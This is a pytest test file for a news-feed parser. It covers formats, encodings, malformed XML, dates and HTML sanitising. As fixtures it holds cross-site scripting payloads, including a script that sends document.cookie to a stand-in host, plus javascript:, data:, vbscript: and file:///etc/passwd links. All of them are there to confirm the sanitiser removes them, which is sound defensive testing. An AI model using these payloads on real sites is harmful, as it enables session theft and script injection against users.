"""Feed parsing on bytes: formats, encodings, broken XML, scripts, dates."""

from __future__ import annotations

import unicodedata

import pytest

from media.parse import parse_feed, plain_text, sanitize_html
from tests.media.media_feeds import atom03, atom10, item, rss1, rss2

FETCHED = "2026-02-01T00:00:00+00:00"
ISO_DATE = "2021-04-05T08:30:00+07:00"
RFC_DATE = "Mon, 05 Apr 2021 08:30:00 +0700"


@pytest.mark.parametrize(
    "build, date",
    [
        (lambda items: rss2(items, version="0.91"), RFC_DATE),
        (lambda items: rss2(items, version="0.92"), RFC_DATE),
        (rss2, RFC_DATE),
        (rss1, ISO_DATE),
        (atom03, ISO_DATE),
        (atom10, ISO_DATE),
    ],
    ids=["rss091", "rss092", "rss20", "rss10", "atom03", "atom10"],
)
def test_every_format_gives_clean_entries_with_utc_dates(build, date):
    items = [item(1, date=date), item(2, date=date)]
    feed = parse_feed(build(items).encode("utf-8"), {}, FETCHED)
    assert feed.status == "ok"
    assert [e["title"] for e in feed.entries] == [items[0]["title"], items[1]["title"]]
    assert [e["url"] for e in feed.entries] == [items[0]["link"], items[1]["link"]]
    assert all(e["published_at"] == "2021-04-05T01:30:00+00:00" and e["date_missing"] == 0 for e in feed.entries)
    assert "cải cách hành chính" in feed.entries[0]["text"]


def test_titles_and_links_wrapped_in_whitespace_are_stripped():
    feed = parse_feed(
        rss2([item(1, title="\n   Hà Nội   đẩy mạnh   CCHC \n", link="\n  https://bao.vn/a.html  \n")]).encode(), {}
    )
    assert feed.entries[0]["title"] == "Hà Nội đẩy mạnh CCHC"
    assert feed.entries[0]["url"] == "https://bao.vn/a.html"


def test_nfd_text_is_stored_nfc():
    title = unicodedata.normalize("NFD", "Cải cách hành chính ở Hà Nội")
    feed = parse_feed(
        rss2([item(1, title=title, text=unicodedata.normalize("NFD", "Đăng ký hộ kinh doanh"))]).encode(), {}
    )
    entry = feed.entries[0]
    assert entry["title"] == unicodedata.normalize("NFC", title) and unicodedata.is_normalized("NFC", entry["title"])
    assert entry["text"] == "Đăng ký hộ kinh doanh"


@pytest.mark.parametrize("declared", ["iso-8859-1", "windows-1252", "us-ascii"])
def test_utf8_bytes_under_a_wrong_declared_encoding(declared):
    data = rss2([item(1, title="Thủ tục hành chính một cửa")], encoding=declared).encode("utf-8")
    feed = parse_feed(data, {"Content-Type": f"application/rss+xml; charset={declared}"})
    assert feed.status == "ok"
    assert feed.entries[0]["title"] == "Thủ tục hành chính một cửa"


def test_latin1_bytes_declared_as_utf8_are_still_read():
    xml = (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>Bao</title>'
        "<item><title>Café à Ha Noi</title><link>https://bao.vn/1</link></item></channel></rss>"
    )
    feed = parse_feed(xml.encode("latin-1"), {})
    assert feed.status == "ok" and feed.entries[0]["title"] == "Café à Ha Noi"


def test_malformed_xml_keeps_recoverable_entries():
    data = (rss2([item(1), item(2)])[: -len("</channel></rss>")]).encode() + b"<item><title>Broken <b></item"
    feed = parse_feed(data, {})
    assert feed.status == "ok" and feed.bozo
    assert [e["title"] for e in feed.entries][:2] == [item(1)["title"], item(2)["title"]]


@pytest.mark.parametrize("data", [b"", b"   ", b"not xml at all", b"\x00\x01\x02garbage"])
def test_nothing_recoverable_is_invalid(data):
    assert parse_feed(data, {}).status == "invalid"


def test_zero_item_feed_is_recorded_as_empty():
    feed = parse_feed(rss2([]).encode(), {})
    assert feed.status == "empty" and feed.entries == []


@pytest.mark.parametrize(
    "body, headers, error",
    [
        (
            b"<!DOCTYPE html><html><head><title>Just a moment...</title></head>"
            b"<body>Checking your browser</body></html>",
            {"Content-Type": "text/html"},
            "bot challenge page",
        ),
        (b"<html><body><h1>Trang chu</h1></body></html>", {}, "HTML page instead of a feed"),
        (b"<h1>Maintenance</h1>", {"content-type": "text/html; charset=utf-8"}, "HTML page instead of a feed"),
    ],
)
def test_html_pages_are_recognised(body, headers, error):
    feed = parse_feed(body, headers)
    assert feed.status == "html" and feed.error == error


def test_scripts_styles_handlers_and_javascript_links_are_removed():
    nasty = (
        '<p onclick="steal()">Tin <b>CCHC</b></p><script>alert("x")</script><style>p{color:red}</style>'
        '<a href="javascript:alert(1)">bấm</a><a href="https://bao.vn/x" onmouseover="y()">ok</a>'
        '<img src="https://bao.vn/a.jpg" onerror="z()"><iframe src="https://evil"></iframe>'
    )
    feed = parse_feed(rss2([item(1, description=nasty)]).encode(), {})
    safe = feed.entries[0]["summary_html"]
    for bad in ("script", "style", "onclick", "onmouseover", "onerror", "javascript:", "iframe", "alert"):
        assert bad not in safe
    assert '<a href="https://bao.vn/x"' in safe and "<b>CCHC</b>" in safe and '<img src="https://bao.vn/a.jpg"' in safe
    assert feed.entries[0]["text"] == "Tin CCHC bấm ok"


def test_plain_text_of_html_keeps_words_apart_and_unescapes():
    assert plain_text(sanitize_html("<p>Một&nbsp;cửa</p><p>liên thông &amp; số</p>")) == "Một cửa liên thông & số"


def test_entries_without_link_or_title():
    items = [
        {"title": "Chỉ có tiêu đề", "guid": "g1", "date": RFC_DATE},
        {
            "link": "https://bao.vn/chi-co-link.html",
            "description": "<p>Người dân làm thủ tục trực tuyến</p>",
            "date": RFC_DATE,
        },
        {"description": "", "date": RFC_DATE},
    ]
    feed = parse_feed(rss2(items).encode(), {})
    assert [(e["title"], e["url"]) for e in feed.entries] == [
        ("Chỉ có tiêu đề", None),
        ("Người dân làm thủ tục trực tuyến", "https://bao.vn/chi-co-link.html"),
    ]


def test_missing_date_becomes_fetch_time_and_is_flagged():
    raw = item(1)
    del raw["date"]
    feed = parse_feed(rss2([raw]).encode(), {}, FETCHED)
    assert feed.entries[0]["published_at"] == FETCHED and feed.entries[0]["date_missing"] == 1


@pytest.mark.parametrize("offset, utc", [("+0700", "01:30"), ("+0000", "08:30"), ("-0500", "13:30"), ("GMT", "08:30")])
def test_dates_respect_the_offset(offset, utc):
    feed = parse_feed(rss2([item(1, date=f"Mon, 05 Apr 2021 08:30:00 {offset}")]).encode(), {})
    assert feed.entries[0]["published_at"] == f"2021-04-05T{utc}:00+00:00"


def test_duplicate_guids_within_one_feed_are_all_parsed():
    feed = parse_feed(rss2([item(1), item(2, guid="guid-1")]).encode(), {})
    assert [e["guid"] for e in feed.entries] == ["guid-1", "guid-1"]


def test_feedparser_never_opens_a_path_or_url_given_as_bytes(tmp_path):
    secret = tmp_path / "secret.xml"
    secret.write_text(rss2([item(1)]))
    assert parse_feed(str(secret).encode(), {}).status == "invalid"
    assert parse_feed(b"http://127.0.0.1:9/feed.xml", {}).status == "invalid"


ATOM_XHTML_TITLE = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title type="html">&lt;b&gt;Báo&lt;/b&gt; Thử nghiệm</title>
  <entry>
    <title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">safe<script>location.href='https://x.example/?c='+document.cookie</script>
 description</div></title>
    <id>urn:1</id><link href="https://bao.vn/1"/><updated>2021-04-05T08:30:00+07:00</updated>
    <author><name>&lt;i&gt;Phóng viên&lt;/i&gt; &amp;amp; cộng sự</name></author>
  </entry>
  <entry>
    <title type="html">&lt;p&gt;Cải cách&lt;/p&gt;&lt;p&gt;hành chính&lt;style&gt;p{color:red}&lt;/style&gt;
 &amp;amp;amp; số&lt;/p&gt;</title>
    <id>urn:2</id><link href="https://bao.vn/2"/><updated>2021-04-05T08:30:00+07:00</updated>
  </entry>
</feed>"""

RSS_ESCAPED_TITLE = """<rss version="2.0"><channel><title>Báo</title>
<item><title>&lt;b&gt;Hà Nội&lt;/b&gt; &amp;amp; &lt;script&gt;alert(1)&lt;/script&gt;công bố
 &lt;img src=x onerror=alert(2)&gt;SIPAS</title>
<link>https://bao.vn/3</link><author>&lt;a href="javascript:alert(3)"&gt;Tòa soạn&lt;/a&gt;</author></item>
<item><title>&amp;lt;script&amp;gt;alert(4)&amp;lt;/script&amp;gt;Tin hai lần thoát</title><link>https://bao.vn/4</link></item>
<item><title>Chỉ số 1 &lt; 2 &amp;amp; A&amp;B</title><link>https://bao.vn/5</link></item>
</channel></rss>"""


def _no_markup(text: str) -> bool:
    return "<" not in text.replace(" < ", "") and not any(word in text for word in ("alert", "location", "color"))


def test_marked_up_atom_titles_become_plain_text():
    feed = parse_feed(ATOM_XHTML_TITLE.encode("utf-8"), {}, FETCHED)
    assert feed.status == "ok"
    first, second = feed.entries
    assert first["title"] == "safe description"
    assert first["author"] == "Phóng viên & cộng sự"
    assert second["title"] == "Cải cách hành chính &amp; số"  # one level of escaping undone, no more
    assert feed.title == "Báo Thử nghiệm"
    for entry in feed.entries:
        assert _no_markup(entry["title"]) and unicodedata.is_normalized("NFC", entry["title"])


def test_escaped_html_in_rss_titles_becomes_plain_text():
    feed = parse_feed(RSS_ESCAPED_TITLE.encode("utf-8"), {}, FETCHED)
    titles = [e["title"] for e in feed.entries]
    assert titles[0] == "Hà Nội & công bố SIPAS"
    assert feed.entries[0]["author"] == "Tòa soạn"
    assert titles[1] == "Tin hai lần thoát"  # markup hidden behind two levels of escaping
    assert titles[2] == "Chỉ số 1 < 2 & A&B"  # plain text keeps its characters
    assert all(_no_markup(t) for t in titles)


@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(document.cookie)",
        "JavaScript:alert(1)",
        " javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "https://bao.vn:80x/bad-port",
    ],
)
def test_a_feed_items_link_that_is_not_http_is_dropped(link):
    """Issue 23: a feed item's `javascript:` link was stored as the article's URL. Only
    http(s) addresses with a host are kept; the item stays if it has a title."""
    items = [
        {"title": "Tin có liên kết lạ", "link": link, "date": RFC_DATE},
        {"link": link, "date": RFC_DATE},  # nothing else: dropped whole
        {"title": "Tin thường", "link": "https://bao.vn/tin.html", "date": RFC_DATE},
    ]
    feed = parse_feed(rss2(items).encode(), {})
    assert [(e["title"], e["url"]) for e in feed.entries] == [
        ("Tin có liên kết lạ", None),
        ("Tin thường", "https://bao.vn/tin.html"),
    ]


def test_a_javascript_link_is_never_stored_by_ingestion(db, feed_dir):
    from media import ingest

    (feed_dir / "a.xml").write_text(
        rss2([{"title": "Thủ tục hành chính", "link": "javascript:alert(1)", "date": RFC_DATE}]), encoding="utf-8"
    )
    from core.permissions import SYSTEM

    assert ingest.ingest_paths(db, SYSTEM, [feed_dir])["new"] == 1
    urls = [r[0] for r in db.execute("select url from articles")]
    assert urls == [None]
